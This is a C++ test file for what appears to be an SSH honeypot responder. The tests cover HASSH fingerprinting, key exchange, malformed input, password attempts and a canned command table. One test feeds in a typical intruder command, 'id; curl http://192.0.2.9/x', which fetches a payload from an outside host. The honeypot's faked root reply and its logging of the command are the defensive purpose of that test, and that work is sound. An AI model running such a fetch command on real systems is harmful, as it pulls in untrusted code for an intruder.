// SSH without keys: version, HASSH, refusal; and the dialog that stands behind them. The exchange itself is
// driven by OpenSSH in tests/scenario/respond_test.mjs.
#include <doctest/doctest.h>

#include "decode/net/tls_hello.hpp"
#include "observe/respond/ssh_dialog.hpp"
#include "observe/respond/ssh_message.hpp"
#include "observe/respond/ssh_secrets.hpp"
#include "observe/respond/test_talk.hpp"

namespace hinomi::observe {
namespace {

std::string kexinit(std::string_view kex) {
  SshMessage message;
  message.u8(20).bytes += std::string(16, 'c');
  message.text(kex)
      .text("ssh-rsa,ssh-ed25519")
      .text("aes128-ctr,aes256-ctr")
      .text("aes128-ctr")
      .text("hmac-sha2-256,hmac-sha1");
  return message.text("hmac-sha2-256").text("none").text("none").text("").text("").u8(0).u32(0).bytes;
}

std::string packet(std::string_view payload) {
  const std::size_t padding = 8 + (8 - (payload.size() + 5) % 8) % 8;
  SshMessage whole;
  whole.u32(static_cast<std::uint32_t>(1 + payload.size() + padding)).u8(static_cast<std::uint8_t>(padding));
  return whole.bytes.append(payload).append(padding, '\0');
}

TEST_CASE("Respond ssh_records_hassh_before_anything_is_agreed") {
  const Spoken spoken =
      speak(SessionProtocol::ssh, {"SSH-2.0-Go\r\n" + packet(kexinit("diffie-hellman-group1-sha1"))});
  CHECK(spoken.answered.starts_with("SSH-2.0-OpenSSH_9.2p1\r\n"));
  CHECK(spoken.session.client_banner == "SSH-2.0-Go");
  CHECK(spoken.session.fingerprint ==
        decode::md5_text("diffie-hellman-group1-sha1;aes128-ctr,aes256-ctr;hmac-sha2-256,hmac-sha1;none"));
  CHECK(spoken.session.end == SessionEnd::by_responder);
}

TEST_CASE("Respond ssh_answers_an_exchange_and_refuses_a_point_of_small_order") {
  const std::string begun = "SSH-2.0-Go\n" + packet(kexinit("curve25519-sha256"));
  const std::string host = ssh_host_key(ssh_key_of({}, {}));
  const std::string_view point = std::string_view(host).substr(host.size() - 32);  // any 32 bytes will do
  const Spoken agreed = speak(SessionProtocol::ssh, {begun + packet(SshMessage{}.u8(30).text(point).bytes)});
  CHECK(agreed.answered.find(host) != std::string::npos);
  CHECK(agreed.session.end == SessionEnd::by_client);
  const Spoken refused =
      speak(SessionProtocol::ssh, {begun + packet(SshMessage{}.u8(30).text(std::string(32, '\0')).bytes)});
  CHECK(refused.session.end == SessionEnd::malformed);
}

TEST_CASE("Respond ssh_leaves_what_is_no_ssh") {
  for (const std::string& text :
       {std::string("GET / HTTP/1.1\r\n"), "SSH-" + std::string(400, 'x'),
        std::string("SSH-2.0-x\r\n\xff\xff\xff\xff\xff\xff"), "SSH-2.0-x\n" + packet("\x1e")}) {
    CAPTURE(text);
    const Spoken spoken = speak(SessionProtocol::ssh, {text});
    CHECK(spoken.session.end == SessionEnd::malformed);
  }
}

TEST_CASE("Respond ssh_host_key_stays_with_the_sensor_key") {
  CHECK(ssh_host_key({}) == ssh_host_key({}));
  CHECK(ssh_host_key({}) != ssh_host_key({1}));
  CHECK(ssh_key_of({}, IpAddress::v4(1)) != ssh_key_of({}, IpAddress::v4(2)));
}

// What a client says once keys are there.
struct Dialog {
  std::vector<std::string> say(const std::string& message) { return dialog.take(bytes_of(message), talk); }
  Talk::House house;
  Talk talk = [this] {
    Talk made(house);
    Session opening;
    opening.source = test_source;
    made.begin(opening);
    return made;
  }();
  SshDialog dialog;
};

std::string password_try(std::string_view password) {
  return SshMessage{}.u8(50).text("root").text("ssh-connection").text("password").u8(0).text(password).bytes;
}

TEST_CASE("Respond ssh_dialog_runs_a_command_by_the_table_only") {
  Dialog client;
  CHECK(client.say(SshMessage{}.u8(90).text("session").u32(7).u32(9999).u32(999).bytes)[0][0] ==
        92);  // no login yet
  CHECK(client.say(password_try(test_password("root", false)))[0][0] == 51);
  CHECK(client.say(password_try(test_password("root", true)))[0][0] == 52);
  CHECK(client.say(SshMessage{}.u8(90).text("session").u32(7).u32(9999).u32(999).bytes)[0][0] == 91);
  const auto answers =
      client.say(SshMessage{}.u8(98).u32(1).text("exec").u8(1).text("id; curl http://192.0.2.9/x").bytes);
  REQUIRE(answers.size() == 5);
  CHECK(answers[0] == SshMessage{}.u8(99).u32(7).bytes);
  CHECK(answers[1] == SshMessage{}
                          .u8(94)
                          .u32(7)
                          .text("uid=0(root) gid=0(root)\r\ncurl: (28) Connection timed out\r\n")
                          .bytes);
  CHECK(answers[4] == SshMessage{}.u8(97).u32(7).bytes);
  const auto tunnel = client.say(SshMessage{}
                                     .u8(90)
                                     .text("direct-tcpip")
                                     .u32(8)
                                     .u32(1)
                                     .u32(1)
                                     .text("203.0.113.4")
                                     .u32(25)
                                     .text("")
                                     .u32(0)
                                     .bytes);
  CHECK(tunnel[0][0] == 92);
  CHECK(client.talk.session().commands == std::vector<std::string>{"id; curl http://192.0.2.9/x"});
  CHECK(client.talk.session().credentials.size() == 2);
}

TEST_CASE("Respond ssh_dialog_ends_after_six_logins_and_on_what_it_cannot_read") {
  Dialog client;
  for (int i = 0; i < 6; ++i) client.say(password_try(test_password("root", false)));
  CHECK(client.talk.session().end == SessionEnd::by_responder);
  const std::string whole = password_try("secret");
  for (std::size_t size = 0; size < whole.size(); ++size) {
    Dialog cut;
    cut.say(whole.substr(0, size));
    CHECK(cut.talk.session().end == SessionEnd::malformed);
    CHECK(cut.talk.session().credentials.empty());
  }
}

TEST_CASE("Respond ssh_dialog_sends_nothing_long_back") {
  Dialog client;
  CHECK(client.say(SshMessage{}.u8(5).text(std::string(3000, 's')).bytes).empty());
  CHECK(client.talk.session().end == SessionEnd::malformed);
  Dialog other;
  CHECK(other.say(SshMessage{}.u8(5).text("ssh-userauth").bytes)[0][0] == 6);
}

}  // namespace
}  // namespace hinomi::observe
